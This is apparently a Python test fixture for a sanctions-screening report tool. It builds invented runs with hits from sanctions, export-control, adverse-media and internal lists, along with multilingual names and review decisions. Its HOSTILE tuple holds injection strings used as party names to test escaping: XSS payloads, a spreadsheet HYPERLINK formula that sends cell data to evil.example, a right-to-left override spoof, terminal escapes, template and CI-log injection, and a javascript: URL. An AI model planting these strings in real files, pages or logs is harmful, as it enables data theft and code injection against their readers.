"""A run built by hand, with every status, list kind and awkward name that a report must show.

All parties are invented.
"""

from __future__ import annotations

from collections import Counter

from msgspec.structs import replace

from screening.model import (
    Address,
    Change,
    Counterparty,
    Counts,
    Decision,
    Delta,
    Detail,
    Entity,
    Evidence,
    FalseFriend,
    FileInfo,
    Hit,
    Identifier,
    InputInfo,
    ListInfo,
    Listing,
    Manifest,
    Name,
    Relation,
    RowOutcome,
    Run,
    Status,
    Step,
)

OFFICIAL = ListInfo(
    id="nor-sanctions",
    title="Norland Consolidated Sanctions List",
    kind="sanctions",
    publisher="Norland Treasury",
    as_of="2026-10-01",
    sha256="1f" * 32,
    accepted=17012,
    rejected=3,
    licence="public domain",
    source="https://lists.example/nor.xml",
    fetched_at="2026-10-02T04:00:00Z",
)
EXPORT = ListInfo(
    id="sud-export",
    title="Sudmark Export Control Entities",
    kind="export-control",
    publisher="Sudmark Trade Office",
    as_of="2026-09-15",
    sha256="2e" * 32,
    accepted=840,
)
MEDIA = ListInfo(
    id="press-2026",
    title="Parties named in reports on dual-use goods",
    kind="adverse-media",
    publisher="Compliance desk",
    as_of="2026-08-30",
    sha256="3d" * 32,
    accepted=6,
)
INTERNAL = ListInfo(
    id="house-list",
    title="House list",
    kind="internal",
    publisher="Compliance desk",
    as_of="2026-07-01",
    sha256="4c" * 32,
    accepted=12,
    rejected=1,
)

# Names that have attacked spreadsheets, browsers, terminals, CI logs and readers before.
HOSTILE = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(2)>',
    "' onmouseover='alert(3)' x='",
    "</script><script>alert(4)</script>",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "Evil\u202egnp.exe Ltd",
    "\x1b[31mRed\x1b[0m \x07 Ltd\x00",
    "javascript:alert(5)",
    "{{7*7}} {% raw %} ${7*7}",
    "[click](http://evil.example) ![i](http://evil.example/i.png) @everyone #1 | pipe ` tick `` `",
    "line one\r\n::error::injected\n# heading",
    "]]> & &lt; --> <!-- %0A _x0041_",
)

PASSAGE = (
    "Customs records reviewed by the paper show that Brightwave Optics shipped lens assemblies to two "
    "addresses in Port Alder, according to people familiar with the matter."
)


def run_on_files() -> Run:
    """The same run, its rows in turn in three files, of which the last could not be read; rows count in each file."""
    run = sample_run()
    names = ("rows/a b.csv", "s3://bank/rows/c#.csv")

    def moved(party: Counterparty) -> Counterparty:
        return replace(party, file=names[party.row % 2], row=2 + party.row // 2)

    def place(item: Hit | RowOutcome) -> tuple[str, int]:
        return item.counterparty.place

    hits = sorted((replace(hit, counterparty=moved(hit.counterparty)) for hit in run.hits), key=place)
    outcomes = [replace(item, counterparty=moved(item.counterparty)) for item in run.outcomes]
    lost = RowOutcome(
        status="unscreened",
        counterparty=Counterparty(row=2, names=(), file="rows/z.csv"),
        reason="lost",
        rows=3,
    )
    counts = replace(
        run.manifest.counts,
        read=run.manifest.counts.read + 3,
        unscreened=run.manifest.counts.unscreened + 3,
    )
    files = (
        *(FileInfo(path=name, sha256="e" * 64) for name in names),
        FileInfo(path="rows/z.csv", sha256=""),
    )
    info = replace(run.manifest.input, path="rows/", files=files)
    return replace(
        run,
        hits=tuple(hits),
        outcomes=(*sorted(outcomes, key=place), lost),
        manifest=replace(run.manifest, input=info, counts=counts),
    )


def sample_run() -> Run:
    """The run. Counts add up to its hits and outcomes plus 40 clear rows that were not kept."""
    hits = (
        *_tongli(),
        _brightwave(),
        _hostile(5, HOSTILE[0], 88.4),
        _russian(),
        _cleared(),
        _lapsed(),
        _arabic(),
        *(_hostile(20 + number, name, 81.0 + number / 2) for number, name in enumerate(HOSTILE[1:])),
    )
    outcomes = (
        RowOutcome(
            status="unscreened",
            counterparty=Counterparty(row=16, names=(), id="V-016", extra=(("contact", "A. Nobody"),)),
            reason="the name cell is empty",
        ),
        RowOutcome(
            status="unscreened",
            counterparty=Counterparty(row=17, names=("<b>???</b>",), id="V-017"),
            reason="no letter or digit in the name",
        ),
        RowOutcome(status="clear", counterparty=Counterparty(row=18, names=("Meadow Bakery",), id="V-018")),
    )
    rows = {"match": set[int](), "review": set[int](), "cleared": set[int]()}
    for hit in hits:
        rows[hit.status].add(hit.counterparty.row)
    review = rows["review"] - rows["match"]
    cleared = rows["cleared"] - rows["match"] - review
    clear = 41
    counts = Counts(
        read=clear + len(rows["match"]) + len(review) + len(cleared) + 2,
        clear=clear,
        review=len(review),
        match=len(rows["match"]),
        cleared=len(cleared),
        unscreened=2,
    )
    manifest = Manifest(
        run_id="5f3c9a0b12de4477",
        started_at="2026-10-09T08:30:00Z",
        version="0.1.0",
        dependencies={"python": "3.11.7", "rapidfuzz": "3.10.0"},
        settings={"thresholds": {"match": 92.0, "review": 80.0}},
        settings_sha256="5b" * 32,
        input=InputInfo(
            path="vendors/suppliers 2026.csv",
            format="csv",
            sha256="6a" * 32,
            encoding="utf-8",
            delimiter=",",
            columns={"name": ("vendor", "trading as"), "country": ("country",)},
            notes=("row 9: the encoding of one cell was repaired",),
        ),
        lists=(INTERNAL, OFFICIAL, MEDIA, EXPORT),
        as_of=None,
        counts=counts,
        warnings=("house-list is 100 days old (limit 30)",),
    )
    return Run(manifest=manifest, hits=hits, outcomes=outcomes)


def _tongli() -> tuple[Hit, Hit]:
    """One company on two lists: a single alert."""
    party = Counterparty(
        row=2,
        names=("Tongli Precision Instrument Co Ltd", "通立精密仪器"),
        id="V-002",
        type="organization",
        countries=("CN",),
        identifiers=(Identifier(scheme="uscc", value="91420100000000001X", country="CN"),),
        address="12 Harbour Road, Wuhan",
        extra=(("contact", "buyer@example.com"), ("notes", "since 2019")),
        name_columns=(7, 43),
    )
    explanation = (
        Step(kind="aligned", relation="equal", left="tongli", right="tongli", similarity=1.0, weight=0.71),
        Step(
            kind="aligned", relation="equal", left="precision", right="precision", similarity=1.0, weight=0.15
        ),
        Step(
            kind="aligned",
            relation="edit",
            left="instrument",
            right="instruments",
            similarity=0.91,
            weight=0.1,
        ),
        Step(
            kind="aligned",
            relation="variant",
            left="co ltd",
            right="company limited",
            similarity=1.0,
            weight=0.04,
        ),
        Step(
            kind="rule", relation="identifier-agreement", effect=4.0, text="uscc 91420100000000001X on both"
        ),
        Step(kind="rule", relation="country-agreement", effect=1.5, text="both in CN"),
    )
    entity = Entity(
        id="NOR-1001",
        type="organization",
        name="TONGLI PRECISION INSTRUMENTS COMPANY LIMITED",
        names=(
            Name(value="通立精密仪器有限公司", script="Hans", language="zh"),
            Name(value="TONGLI OPTICAL FACTORY", former=True),
            Name(value="TLPI", quality="weak"),
        ),
        countries=("CN", "HK"),
        identifiers=(
            Identifier(scheme="uscc", value="91420100000000001X", country="CN"),
            Identifier(scheme="lei", value="INVENTED000000000000"),
        ),
        addresses=(Address(text="12 Harbour Road, Wuhan, China", city="Wuhan", country="CN"),),
        related=(
            Relation(relation="subsidiary of", entity="NOR-1000", name="Tongli Holding Group", share=62.5),
            Relation(relation="director", name="Chen Example", note="since 2020"),
        ),
        listings=(
            Listing(
                authority="Norland Treasury",
                list="Consolidated",
                programme="NORL-DUALUSE",
                id="1001",
                from_="2024-05-01",
                url="https://lists.example/entry/1001",
            ),
            Listing(
                authority="Norland Treasury",
                list="Consolidated",
                programme="NORL-OLD",
                id="0900",
                from_="2019",
                until="2023-12-31",
                url="javascript:alert(6)",
            ),
        ),
        evidence=(
            Evidence(
                document="nor-sanctions",
                passage="TONGLI PRECISION INSTRUMENTS COMPANY LIMITED; Wuhan, China; NORL-DUALUSE.",
                locator="https://lists.example/entry/1001",
                stance="lists",
            ),
        ),
        false_friends=(
            FalseFriend(name="Tongli Textile", reason="a spinning mill in another town; no common owner"),
        ),
        details=(Detail(label="Remarks", value="secondary measures apply"),),
    )
    export = Entity(
        id="SUD-77",
        type="organization",
        name="Tongli Precision Instruments",
        countries=("CN",),
        listings=(
            Listing(
                authority="Sudmark Trade Office",
                list="Control list",
                from_="2023-11",
                url="https://sud.example/list?id=77&lang=en",
            ),
        ),
    )
    rule = "equal strong identifier (uscc)"
    return (
        Hit(
            id="h-tongli-1",
            status="match",
            score=98.5,
            counterparty=party,
            name=party.names[0],
            matched_name=Name(value=entity.name),
            entity=entity,
            list=OFFICIAL,
            explanation=explanation,
            party="p1",
            party_rule=rule,
        ),
        Hit(
            id="h-tongli-2",
            status="review",
            score=91.0,
            counterparty=party,
            name=party.names[0],
            matched_name=Name(value=export.name),
            entity=export,
            list=EXPORT,
            explanation=(
                *explanation[:3],
                Step(kind="unaligned", relation="legal-form", left="co ltd", weight=0.04),
            ),
            party="p1",
            party_rule=rule,
        ),
    )


def _brightwave() -> Hit:
    entity = Entity(
        id="brightwave-optics",
        type="organization",
        name="Brightwave Optics Manufacturing",
        names=(Name(value="Brightwave Optics", as_written=True),),
        countries=("CN",),
        evidence=(
            Evidence(
                document="article-2026-03",
                passage=PASSAGE,
                locator="P4, 812-975",
                stance="alleges",
                summary="Named as shipper of lens assemblies.",
            ),
            Evidence(
                document="article-2026-04",
                passage="Brightwave Optics said it had never traded with the addresses named.",
                locator="P2, 101-168",
                stance="denies",
            ),
        ),
    )
    return Hit(
        id="h-brightwave",
        status="review",
        score=90.2,
        counterparty=Counterparty(
            row=3, names=("BRIGHT WAVE Optics GmbH",), id="V-003", type="organization", countries=("DE",)
        ),
        name="BRIGHT WAVE Optics GmbH",
        matched_name=entity.names[0],
        entity=entity,
        list=MEDIA,
        explanation=(
            Step(
                kind="aligned",
                relation="joined",
                left="bright wave",
                right="brightwave",
                similarity=1.0,
                weight=0.8,
            ),
            Step(
                kind="aligned", relation="equal", left="optics", right="optics", similarity=1.0, weight=0.18
            ),
            Step(kind="unaligned", relation="legal-form", left="gmbh", weight=0.02),
            Step(kind="rule", relation="country-difference", effect=-6.0, text="DE against CN"),
            Step(kind="note", relation="as-written", text="the name is the source's spelling"),
        ),
    )


def _russian() -> Hit:
    entity = Entity(
        id="NOR-2002",
        type="person",
        name="VYMYSHLENNYY, Pyotr Ivanovich",
        names=(
            Name(value="Вымышленный Пётр Иванович", script="Cyrl", language="ru"),
            Name(value="The Lensman", quality="weak"),
        ),
        countries=("RU",),
        birth_dates=("1962-05", "1963"),
        identifiers=(Identifier(scheme="passport", value="00 0000000", country="RU", note="expired 2020"),),
        listings=(
            Listing(authority="Norland Treasury", list="Consolidated", programme="NORL-PERSONS", id="2002"),
        ),
    )
    return Hit(
        id="h-russian",
        status="match",
        score=95.0,
        counterparty=Counterparty(
            row=6,
            names=("Пётр Вымышленный",),
            id="V-006",
            type="person",
            countries=("RU",),
            birth_date="1962-05-14",
        ),
        name="Пётр Вымышленный",
        matched_name=entity.names[0],
        entity=entity,
        list=OFFICIAL,
        explanation=(
            Step(
                kind="aligned",
                relation="equal",
                left="вымышленный",
                right="вымышленный",
                similarity=1.0,
                weight=0.7,
            ),
            Step(kind="aligned", relation="equal", left="пётр", right="пётр", similarity=1.0, weight=0.3),
            Step(kind="unaligned", relation="patronymic", right="иванович", weight=0.1),
            Step(kind="rule", relation="birth-date-agreement", effect=3.0, text="1962-05-14 within 1962-05"),
        ),
    )


def _cleared() -> Hit:
    entity = Entity(id="house-9", type="organization", name="Alder Shipping", countries=("NO",))
    return Hit(
        id="h-cleared",
        status="cleared",
        score=84.0,
        counterparty=Counterparty(row=8, names=("Alder Shipping Agency",), id="V-008", countries=("GB",)),
        name="Alder Shipping Agency",
        matched_name=Name(value=entity.name),
        entity=entity,
        list=INTERNAL,
        explanation=(
            Step(kind="aligned", relation="equal", left="alder", right="alder", similarity=1.0, weight=0.6),
            Step(
                kind="aligned",
                relation="equal",
                left="shipping",
                right="shipping",
                similarity=1.0,
                weight=0.3,
            ),
            Step(kind="unaligned", relation="word", left="agency", weight=0.1),
        ),
        decision=Decision(
            disposition="false-positive",
            reason="Different company: registered in Leith, no link to the Alder group.",
            by="M. Reviewer",
            decided_on="2026-03-02",
            until="2027-03-01",
            id="d-1",
        ),
    )


def _lapsed() -> Hit:
    entity = Entity(
        id="NOR-3003",
        type="vessel",
        name="GREY HERON",
        names=(Name(value="HERON", quality="weak"),),
        countries=("PA",),
        identifiers=(Identifier(scheme="imo", value="9999999"),),
        details=(Detail(label="Vessel type", value="bulk carrier"),),
        listings=(
            Listing(
                authority="Norland Treasury",
                list="Consolidated",
                programme="NORL-SHIPS",
                from_="2025-01-15",
                note="flag state notified",
            ),
        ),
    )
    return Hit(
        id="h-lapsed",
        status="review",
        score=82.3,
        counterparty=Counterparty(row=9, names=("Heron",), id="V-009", type="vessel", countries=("LR",)),
        name="Heron",
        matched_name=entity.names[0],
        entity=entity,
        list=OFFICIAL,
        explanation=(
            Step(kind="aligned", relation="equal", left="heron", right="heron", similarity=1.0, weight=1.0),
            Step(kind="rule", relation="weak-alias", effect=-12.0, text="a weak alias needs context"),
        ),
        decision=Decision(
            disposition="false-positive",
            reason="A fishing boat.",
            by="M. Reviewer",
            decided_on="2025-01-02",
            until="2026-01-01",
            id="d-2",
        ),
        decision_note="expired on 2026-01-01",
    )


def _arabic() -> Hit:
    entity = Entity(
        id="SUD-88",
        type="organization",
        name="Sharikat al-Amthila lil-Tijara",
        names=(Name(value="شركة الأمثلة للتجارة", script="Arab", language="ar"),),
        countries=("AE",),
    )
    return Hit(
        id="h-arabic",
        status="review",
        score=86.7,
        counterparty=Counterparty(row=11, names=("شركة الامثلة للتجارة",), id="V-011", countries=("AE",)),
        name="شركة الامثلة للتجارة",
        matched_name=entity.names[0],
        entity=entity,
        list=EXPORT,
        explanation=(
            Step(kind="aligned", relation="variant", left="شركة", right="شركة", similarity=1.0, weight=0.1),
            Step(
                kind="aligned", relation="edit", left="الامثلة", right="الأمثلة", similarity=0.86, weight=0.6
            ),
            Step(
                kind="aligned", relation="equal", left="للتجارة", right="للتجارة", similarity=1.0, weight=0.3
            ),
        ),
    )


def _hostile(row: int, name: str, score: float) -> Hit:
    """A hit whose every field is the hostile text."""
    entity = Entity(
        id=f"E-{row}",
        type="organization",
        name=name,
        countries=("XX", name[:12]),
        identifiers=(Identifier(scheme="reg", value=name),),
        addresses=(Address(text=name),),
        related=(Relation(relation=name, name=name),),
        listings=(Listing(authority=name, list=name, programme=name, from_=name, url=name),),
        evidence=(Evidence(document=name, passage=name, locator=name, stance="alleges", summary=name),),
        false_friends=(FalseFriend(name=name, reason=name),),
        details=(Detail(label=name, value=name),),
    )
    status: Status = "review"
    return Hit(
        id=f"h-hostile-{row}",
        status=status,
        score=score,
        counterparty=Counterparty(
            row=row, names=(name,), id=name, countries=("XX",), address=name, extra=((name, name),)
        ),
        name=name,
        matched_name=Name(value=name, note=name),
        entity=entity,
        list=MEDIA,
        explanation=(
            Step(kind="aligned", relation="equal", left=name, right=name, similarity=1.0, weight=1.0),
            Step(kind="rule", relation=name, effect=-1.0, text=name),
        ),
        decision_note=name,
    )


def aside_run() -> Run:
    """The sample with its two lowest reviews set aside by their lists."""
    run = sample_run()
    reviews = sorted((hit for hit in run.hits if hit.status == "review"), key=lambda hit: hit.score)
    aside = {hit.id for hit in reviews[:2]}
    hits = tuple(replace(hit, status="clear") if hit.id in aside else hit for hit in run.hits)
    counts = replace(
        run.manifest.counts, clear=run.manifest.counts.clear + 2, review=run.manifest.counts.review - 2
    )
    return replace(run, hits=hits, manifest=replace(run.manifest, counts=counts))


def delta_run() -> Run:
    """The sample against an earlier run: its first hit and unscreened row are new, the second changed, one is gone."""
    run = sample_run()
    rest = (Change(state="unchanged"),) * (len(run.hits) - 2)
    changes = (
        Change(state="new"),
        Change(state="changed", what=("score 88.0 to 91.0", "<b>name</b>")),
        *rest,
    )
    gone = replace(run.hits[2], id="h-gone", name=HOSTILE[0])
    unscreened = next(outcome for outcome in run.outcomes if outcome.status == "unscreened")
    earlier = Delta(
        baseline_run_id="0123456789abcdef",
        baseline_started_at="2026-10-08T08:30:00Z",
        changes=changes,
        gone=(gone,),
        unscreened=(Change(state="new"), Change(state="changed", what=("reason",), was="unscreened")),
        unscreened_gone=(replace(unscreened, counterparty=replace(unscreened.counterparty, row=40)),),
    )
    return replace(run, delta=earlier)


def many_run(count: int) -> Run:
    """A run of `count` hits, for size and speed."""
    base = sample_run()
    pattern = [hit for hit in base.hits if "hostile" not in hit.id]
    hits = []
    for number in range(count):
        hit = pattern[number % len(pattern)]
        party = replace(hit.counterparty, row=number + 2, id=f"V-{number + 2}")
        hits.append(replace(hit, id=f"h-{number}", counterparty=party, party="", party_rule=""))
    found = Counter(hit.status for hit in hits)
    counts = Counts(
        read=count + 2,
        unscreened=2,
        match=found["match"],
        review=found["review"],
        cleared=found["cleared"],
    )
    return replace(base, manifest=replace(base.manifest, counts=counts), hits=tuple(hits))
